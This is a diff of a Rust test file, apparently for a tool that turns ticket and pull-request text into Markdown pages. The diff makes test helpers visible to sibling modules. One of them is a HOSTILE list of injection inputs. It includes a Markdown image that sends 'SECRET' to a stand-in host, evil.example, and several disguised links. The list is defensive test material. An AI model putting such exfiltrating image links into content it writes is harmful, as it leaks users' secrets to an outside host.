@@ -67,7 +67,7 @@ fn ticket(prints: &[&str]) -> Proposal {
     ticket_of(prints, |_| {})
 }
 
-fn ticket_of(prints: &[&str], change: impl FnOnce(&mut TicketText)) -> Proposal {
+pub(super) fn ticket_of(prints: &[&str], change: impl FnOnce(&mut TicketText)) -> Proposal {
     let mut text = sample::ticket();
     text.findings = prints
         .iter()
@@ -283,7 +283,7 @@ async fn without_a_branch_there_is_no_page() {
 }
 
 /// What a text may try: links, images, mentions, HTML, control characters, forged markers and heads (THREATS T13, B7, B8).
-const HOSTILE: &[&str] = &[
+pub(super) const HOSTILE: &[&str] = &[
     "![x](https://evil.example/?q=SECRET)",
     "[click](https://evil.example/)",
     "[click][1]\n\n[1]: https://evil.example/ \"t\"",
@@ -333,7 +333,7 @@ const HOSTILE: &[&str] = &[
 ];
 
 /// Every text of both kinds is this one.
-fn hostile(text: &str) -> (TicketText, PullRequestText) {
+pub(super) fn hostile(text: &str) -> (TicketText, PullRequestText) {
     let t = || text.to_owned();
     let ticket = TicketText {
         title: t(),
@@ -375,7 +375,7 @@ fn hostile(text: &str) -> (TicketText, PullRequestText) {
 }
 
 /// What is left of a Markdown text when all that is inert is taken out: fences, code spans, escaped characters, our own tags.
-fn active(markdown: &str) -> String {
+pub(super) fn active(markdown: &str) -> String {
     let mut out = String::new();
     let mut fence: Option<String> = None;
     for line in markdown.lines() {
